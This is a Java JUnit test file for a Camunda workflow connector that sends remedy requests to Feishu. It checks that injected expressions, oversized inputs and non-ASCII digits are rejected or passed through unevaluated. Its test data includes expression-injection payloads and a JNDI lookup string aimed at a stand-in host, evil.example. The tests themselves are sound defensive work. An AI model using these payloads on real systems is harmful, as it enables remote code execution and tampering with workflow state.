package io.remedyflow.camunda;

import static io.remedyflow.camunda.TaskEngine.fetch;
import static io.remedyflow.camunda.TaskEngine.inputs;
import static io.remedyflow.camunda.TaskEngine.oneTask;
import static io.remedyflow.camunda.TaskEngine.process;
import static io.remedyflow.camunda.TaskEngine.withOutputs;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.remedyflow.faults.FaultRow;
import io.remedyflow.faults.Provokes;
import java.time.Duration;
import java.util.Map;
import org.camunda.bpm.engine.delegate.DelegateExecution;
import org.camunda.bpm.engine.delegate.ExecutionListener;
import org.camunda.bpm.engine.runtime.ProcessInstance;
import org.camunda.bpm.engine.variable.Variables;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Values that an attacker puts into a variable to make them run. */
class InputFaultsTest {

  @RegisterExtension static final TaskEngine engine = new TaskEngine();

  @ParameterizedTest
  @ValueSource(
      strings = {
        "${1+1}",
        "#{1+1}",
        "${execution.setVariable('pwned',true)}",
        "${jndi:ldap://evil.example/a}",
        "${userId}"
      })
  @Provokes(FaultRow.I6)
  void an_expression_in_a_user_id_is_sent_as_it_stands(String text) {
    var instance = engine.start(oneTask(inputs("userId", "${who}")), Map.of("who", text));

    assertThat(engine.queries()).singleElement().extracting(q -> q.userId()).isEqualTo(text);
    assertThat(engine.variable(instance, "pwned")).isNull();
  }

  @ParameterizedTest
  @ValueSource(strings = {"remedyDate", "employeeType"})
  @Provokes(FaultRow.I6)
  void an_expression_in_another_value_is_rejected_as_it_stands(String input) {
    var instance =
        engine.start(
            oneTask(inputs(input, "${what}", "onRejection", "continue")),
            Map.of("what", "${'20210104'}"));

    assertThat(engine.variable(instance, "remedyStatus")).isEqualTo("REJECTED");
    assertThat((String) engine.variable(instance, "remedyMessage")).contains("'${'20210104'}'");
    assertThat(engine.queries()).isEmpty();
  }

  @ParameterizedTest
  @CsvSource({
    "userId, onRejection, 4194304 characters",
    "remedyDate, onRejection, xxx",
    "employeeType, onRejection, xxx",
    "feishuConnection, onFailure, xxx"
  })
  @Provokes(FaultRow.I7)
  void four_megabytes_of_text_are_rejected_and_not_repeated(
      String input, String action, String shown) {
    long before = System.nanoTime();
    ProcessInstance instance = fourMegabytes(input, action);

    assertThat((String) engine.variable(instance, "remedyMessage"))
        .contains(shown)
        .hasSizeLessThan(400);
    assertThat(engine.queries()).isEmpty();
    assertThat(Duration.ofNanos(System.nanoTime() - before)).isLessThan(Duration.ofSeconds(5));
  }

  @ParameterizedTest
  @ValueSource(strings = {"onRejection", "onFailure"})
  @Provokes(FaultRow.I7)
  void four_megabytes_of_an_action_are_rejected_and_not_repeated(String input) {
    assertThatThrownBy(() -> fourMegabytes(input, "feishuConnection"))
        .isInstanceOf(TaskFailedException.class)
        .satisfies(e -> assertThat(e.getMessage()).contains("xxx").hasSizeLessThan(400));

    assertThat(engine.queries()).isEmpty();
  }

  private static ProcessInstance fourMegabytes(String input, String action) {
    String value = action.equals("feishuConnection") ? "default" : "continue";
    Map<String, String> inputs = inputs(action, value);
    inputs.remove(input);
    return engine.start(
        withOutputs(fetch(process("p"), "fetch", inputs))
            .camundaExecutionListenerClass("start", Large.class)
            .userTask("after")
            .endEvent()
            .done(),
        Map.of("input", input));
  }

  /** As a transient variable: the database would take no more than 4,000 characters. */
  public static final class Large implements ExecutionListener {

    @Override
    public void notify(DelegateExecution execution) {
      execution.setVariableLocal(
          (String) execution.getVariable("input"),
          Variables.stringValue("x".repeat(4 * 1024 * 1024), true));
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"２０２１０１０４", "٢٠٢١٠١٠٤", "२०२१-०१-०४", "二〇二一年一月四日"})
  @Provokes(FaultRow.I8)
  void digits_of_other_scripts_are_no_day(String day) {
    var instance =
        engine.start(
            oneTask(inputs("remedyDate", "${day}", "onRejection", "continue")), Map.of("day", day));

    assertThat(engine.variable(instance, "remedyStatus")).isEqualTo("REJECTED");
    assertThat((String) engine.variable(instance, "remedyMessage")).contains("'" + day + "'");
    assertThat(engine.queries()).isEmpty();
  }

  @Test
  @Provokes(FaultRow.I8)
  void a_user_id_in_digits_of_another_script_is_sent_as_typed() {
    engine.start(oneTask(inputs("userId", "００７")), Map.of());

    assertThat(engine.queries()).singleElement().extracting(q -> q.userId()).isEqualTo("００７");
  }

  @ParameterizedTest
  @ValueSource(strings = {"10000101", "99991231", "20991231"})
  @Provokes(FaultRow.I3)
  void the_far_past_and_the_future_are_feishus_to_judge(String day) {
    engine.start(oneTask(inputs("remedyDate", day)), Map.of());

    assertThat(engine.queries()).hasSize(1);
  }
}
